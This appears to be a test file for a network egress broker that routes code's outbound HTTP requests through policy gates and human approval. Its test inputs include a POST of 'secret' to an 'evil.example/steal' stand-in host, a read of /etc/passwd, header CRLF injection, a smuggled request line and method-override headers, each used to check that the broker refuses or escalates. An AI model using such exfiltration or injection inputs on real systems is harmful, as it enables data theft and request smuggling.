/** Requests of code as calls: which tool they are, what gates see, and what becomes of answers and refusals. */
import { setMaxListeners } from 'node:events';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { EgressRules, type EgressSource } from '../../../src/core/base/egress.ts';
import type { EgressAnswer, EgressRequest } from '../../../src/core/base/egress-exchange.ts';
import { BridgeError } from '../../../src/core/base/errors.ts';
import { type CallGate, failed, succeeded, type ToolCall } from '../../../src/core/calls/contract.ts';
import { createCallPipeline } from '../../../src/core/calls/pipeline.ts';
import type { CallContext } from '../../../src/core/session/dispatch.ts';
import { EgressBroker, fetchMethod } from '../../../src/features/egress/index.ts';
import { createPolicyGate } from '../../../src/features/policy/index.ts';

type Entries = Readonly<Record<string, readonly [url: string, source?: Partial<EgressSource>]>>;

const NO_ONE = { session: 's', generation: 1, cell: 1, call: 1, loaded: new Set() } as unknown as CallContext;

function setUp(entries: Entries, gates: readonly CallGate[] = [], answer: Partial<EgressAnswer> = {}) {
  const seen: ToolCall[] = [];
  const sent: { server: string | undefined; body: string; request: EgressRequest }[] = [];
  const record: CallGate = (call, next) => {
    seen.push(call);
    return next(call);
  };
  const send = async (server: string | undefined, request: EgressRequest): Promise<EgressAnswer> => {
    const pieces = await Readable.from(request.body).toArray();
    sent.push({ server, request, body: Buffer.concat(pieces as Buffer[]).toString() });
    return { status: 200, headers: [['content-type', 'text/plain']], body: Buffer.from('hello'), ...answer };
  };
  const broker = new EgressBroker({
    calls: createCallPipeline({ gates: [record, ...gates] }),
    directory: {
      findToolToCall: async (_, wanted) => ({ name: wanted, alias: wanted, description: '', inputSchema: {} }),
    },
    findCallable: (name) => ({ name, alias: name, description: '' }),
    servers: {
      egress: () =>
        new Map(
          Object.entries(entries).map(([name, [url, source]]) => [
            name,
            {
              rules: new EgressRules(url, { hosts: [], isPrivate: false, prefixes: {}, ...source }),
              keys: [],
              hasTools: name !== 'described',
            },
          ]),
        ),
      sendEgress: send,
    },
    sendPlain: (request) => send(undefined, request),
    whyNoOther: undefined,
    whyNot: undefined,
  });
  const cell = new AbortController();
  setMaxListeners(0, cell.signal);
  const request = (method: string, url: string, more: { body?: string | Buffer; headers?: [string, string][] } = {}) =>
    broker.handle(
      {
        method,
        url: new URL(url),
        headers: more.headers ?? [],
        body: Readable.from(more.body === undefined ? [] : [Buffer.from(more.body)], { objectMode: false }),
        signal: new AbortController().signal,
      },
      { ...NO_ONE, signal: cell.signal },
    );
  return { broker, cell, request, seen, sent };
}

describe('a request', () => {
  const shop = { shop: ['https://api.shop.example/v1', { methods: ['GET', 'POST'], paths: ['/v1/*'] }] } as const;

  it('is a call of the tool for its method', async () => {
    const { request, seen, sent } = setUp(shop);
    const answer = await request('POST', 'https://api.shop.example/v1/orders?a=1&b=2&b=3', {
      body: '{"item": 7}',
      headers: [
        ['Content-Type', 'application/json'],
        ['User-Agent', 'x'],
        ['X-Own', '1'],
      ],
    });
    expect(answer.status).toBe(200);
    expect(seen[0]).toMatchObject({ server: { name: 'shop' }, tool: { name: 'post' } });
    expect(seen[0]?.arguments).toEqual({
      path: '/v1/orders',
      query: { a: '1', b: ['2', '3'] },
      headers: { 'Content-Type': 'application/json', 'X-Own': '1' },
      body: '{"item": 7}',
    });
    expect(sent).toMatchObject([{ server: 'shop', body: '{"item": 7}' }]);
  });

  it('with a long or binary body is shown by its start or size, and sent whole', async () => {
    const { request, seen, sent } = setUp(shop);
    const long = 'ä'.repeat(20_000);
    await request('POST', 'https://api.shop.example/v1/a', { body: long, headers: [['content-length', '40000']] });
    await request('POST', 'https://api.shop.example/v1/a', { body: Buffer.from([0, 1, 2, 255]) });
    expect(seen.map((call) => call.arguments['body'])).toEqual([
      { start: 'ä'.repeat(1_000), whole: '40,000 bytes', request: expect.any(Number) as number },
      { bytes: '4 bytes', latin1: '\0\u0001\u0002\u00ff' },
    ]);
    expect(sent[0]?.body).toBe(long);
    expect(sent[1]?.request.body).toBeInstanceOf(Readable);
  });

  it.each([5_999, 6_000, 6_001, 7_000, 16_384, 16_385, 70_000])('of %i bytes at once is sent whole', async (size) => {
    const { broker, cell, sent } = setUp(shop);
    const body = new Readable({ read: () => undefined });
    body.push(Buffer.alloc(size, 'x'));
    body.push(null);
    const url = new URL('https://api.shop.example/v1/a');
    const request = { method: 'POST', url, headers: [], body, signal: new AbortController().signal };
    await broker.handle(request, { ...NO_ONE, signal: cell.signal });
    expect(sent[0]?.body.length).toBe(size);
  });

  it.each(['a', 'ä', '語', '😀'])('of text is shown as text, wherever %s is cut', async (character) => {
    const { request, seen } = setUp(shop);
    for (const before of ['', 'x', 'xx', 'xxx']) {
      await request('POST', 'https://api.shop.example/v1/a', { body: before + character.repeat(20_000) });
    }
    expect(seen.map((call) => Object.keys(call.arguments['body'] as object)[0])).toEqual(Array(4).fill('start'));
  });

  it('is another call than one whose body only begins alike', async () => {
    const { request, seen } = setUp(shop);
    const start = 'x'.repeat(10_000);
    await request('POST', 'https://api.shop.example/v1/a', { body: `${start}1` });
    await request('POST', 'https://api.shop.example/v1/a', { body: `${start}2` });
    expect(seen[0]?.arguments).not.toEqual(seen[1]?.arguments);
  });

  it('hides only headers that look as libraries write them, and none from a host without an entry', async () => {
    const { request, seen } = setUp(shop);
    const usual: [string, string][] = [
      ['User-Agent', 'python-requests/2'],
      ['X-Amz-Date', '20261130T070000Z'],
    ];
    await request('GET', 'https://api.shop.example/v1/a', {
      headers: [
        ...usual,
        ['X-Amz-Content-Sha256', 'data'],
        ['X-Own', 'AWS4-HMAC-SHA256 data'],
        ['Accept', 'x'.repeat(500)],
      ],
    });
    expect(Object.keys(seen[0]?.arguments['headers'] as object)).toEqual(['X-Amz-Content-Sha256', 'X-Own', 'Accept']);
    await request('GET', 'https://other.example/', { headers: usual });
    expect(Object.keys(seen[1]?.arguments['headers'] as object)).toEqual(['User-Agent', 'X-Amz-Date']);
  });

  it('shows policies the path that servers read', async () => {
    const { request, seen } = setUp({ shop: ['https://api.shop.example'] });
    await request('GET', 'https://api.shop.example/v1/x/../%70ayouts/a%2Fb');
    expect(seen[0]?.arguments['path']).toBe('/v1/payouts/a%2Fb');
  });

  it('cannot be one of another method', async () => {
    const { request, seen, sent } = setUp({ shop: ['https://api.shop.example'] });
    for (const name of ['X-HTTP-Method-Override', 'x-http-method', 'X-Method-Override']) {
      const refused = request('GET', 'https://api.shop.example/', { headers: [[name, 'DELETE']] });
      await expect(refused).rejects.toThrow(`it has the header ${name}`);
    }
    expect([seen, sent]).toEqual([[], []]);
  });

  it('to a query API of AWS is judged by its action', async () => {
    const { request, seen } = setUp({ aws: ['https://ec2.us-east-1.amazonaws.com'] });
    await request('GET', 'https://ec2.us-east-1.amazonaws.com/?Action=DescribeInstances');
    await request('GET', 'https://ec2.us-east-1.amazonaws.com/?Action=TerminateInstances');
    expect(seen.map(({ tool }) => tool.name)).toEqual(['get', 'post']);
  });

  it('of an entry with a description is not one of the tools of that', async () => {
    const { request, seen } = setUp({ described: ['https://api.shop.example'] });
    await request('DELETE', 'https://api.shop.example/');
    await request('GET', 'https://api.shop.example/');
    expect(seen.map(({ tool }) => tool)).toMatchObject([
      { name: 'delete', annotations: { readOnlyHint: false, destructiveHint: true } },
      { name: 'get', annotations: { readOnlyHint: true } },
    ]);
  });

  it('counts until it has an answer', async () => {
    const stuck: CallGate = () => new Promise(() => undefined);
    const { request } = setUp(shop, [stuck]);
    for (let count = 0; count < 64; count += 1) {
      void request('GET', 'https://api.shop.example/v1/a');
    }
    await expect(request('GET', 'https://api.shop.example/v1/a')).rejects.toMatchObject({ code: 'LIMIT_CALLS' });
  });

  it('that the entry does not allow is refused, and no gate sees it', async () => {
    const { request, seen, sent } = setUp(shop);
    await expect(request('DELETE', 'https://api.shop.example/v1/a')).rejects.toMatchObject({
      code: 'POLICY_DENIED',
      message:
        "DELETE api.shop.example/v1/a was not sent: the entry 'shop' allows code to reach this host, but it allows only GET, POST",
    });
    await expect(request('GET', 'https://api.shop.example/admin')).rejects.toThrow('it allows only the paths /v1/*');
    expect([seen, sent]).toEqual([[], []]);
  });

  it('goes to the entry that allows it, and fits best', async () => {
    const { request, sent } = setUp({
      wide: ['https://other.example', { hosts: ['*.shop.example'] }],
      reader: ['https://api.shop.example', { methods: ['GET'] }],
      writer: ['https://api.shop.example', { methods: ['POST'] }],
    });
    await request('GET', 'https://api.shop.example/');
    await request('POST', 'https://api.shop.example/');
    await request('PUT', 'https://api.shop.example/');
    expect(sent.map(({ server }) => server)).toEqual(['reader', 'writer', 'wide']);
  });

  it('that a gate refuses is not sent', async () => {
    const { request, sent } = setUp(shop, [async () => failed(new BridgeError('POLICY_DENIED', 'no'))]);
    await expect(request('GET', 'https://api.shop.example/v1/a')).rejects.toThrow('no');
    expect(sent).toEqual([]);
  });

  it('is not sent in a dry run, which code is told', async () => {
    const { request, sent } = setUp(shop, [async () => ({ ...succeeded({}), isDryRun: true })]);
    await expect(request('GET', 'https://api.shop.example/v1/a')).rejects.toThrow(
      'GET api.shop.example was not sent: this is a dry run',
    );
    expect(sent).toEqual([]);
  });

  it('to a host without an entry needs a person', async () => {
    const asked: unknown[] = [];
    const gate = createPolicyGate(() => undefined, {
      approve: async (call) => {
        asked.push(call);
        return 'session';
      },
    });
    const { request, sent } = setUp(shop, [gate]);
    await request('POST', 'https://evil.example/steal', { body: 'secret' });
    expect(asked).toMatchObject([
      {
        server: 'https://evil.example',
        tool: 'post',
        arguments: { path: 'https://evil.example/steal', body: 'secret' },
        reason: 'no entry allows code to reach evil.example ("egress")',
      },
    ]);
    expect(sent).toMatchObject([{ server: undefined }]);
    await expect(request('TRACE', 'https://evil.example/')).rejects.toThrow('this method is not passed on');
  });

  it('to a host without an entry is not sent if no one allows it', async () => {
    const gate = createPolicyGate(() => undefined, {
      approve: () => Promise.reject(new BridgeError('APPROVAL_UNAVAILABLE', 'no one')),
    });
    const { request, sent } = setUp(shop, [gate]);
    await expect(request('GET', 'https://evil.example/')).rejects.toThrow('no one');
    expect(sent).toEqual([]);
  });

  it('ends with the cell, also while its answer is read', async () => {
    const body = new Readable({ read: () => undefined });
    const { cell, request, sent } = setUp(shop, [], { body });
    const answer = await request('GET', 'https://api.shop.example/v1/a');
    expect(sent[0]?.request.signal.aborted).toBe(false);
    cell.abort();
    expect(sent[0]?.request.signal.aborted).toBe(true);
    expect((answer.body as Readable).destroyed).toBe(true);
  });
});

describe('fetch', () => {
  const shop = { shop: ['https://api.shop.example'] } as const;

  async function fetched(params: object, entries: Entries = shop) {
    const test = setUp(entries);
    const [, method] = fetchMethod(test.broker);
    const context = { ...NO_ONE, signal: test.cell.signal };
    return { ...test, answer: await method.run(method.schema.parse(params), context) };
  }

  it('sends one request, and has its answer whole', async () => {
    const { answer, sent } = await fetched({
      url: 'https://u:p@api.shop.example/a#b',
      method: 'put',
      headers: [['X-A', '1']],
      body: Buffer.from('text').toString('base64'),
    });
    expect(answer).toEqual({
      status: 200,
      reason: '',
      headers: [['content-type', 'text/plain']],
      body: Buffer.from('hello').toString('base64'),
    });
    expect(sent[0]).toMatchObject({ body: 'text', request: { method: 'PUT' } });
    expect(sent[0]?.request.url.href).toBe('https://api.shop.example/a');
    expect(sent[0]?.request.headers).toEqual([
      ['X-A', '1'],
      ['content-length', '4'],
    ]);
  });

  it.each([
    { url: 'file:///etc/passwd' },
    { url: '/path' },
    { url: 'https://a.example', method: 'GET /x HTTP/1.1' },
    { url: 'https://a.example', headers: [['a b', 'c']] },
    { url: 'https://a.example', headers: [['a', 'b\r\nc: d']] },
  ])('refuses %j', async (params) => {
    await expect(fetched(params)).rejects.toThrow();
  });
});
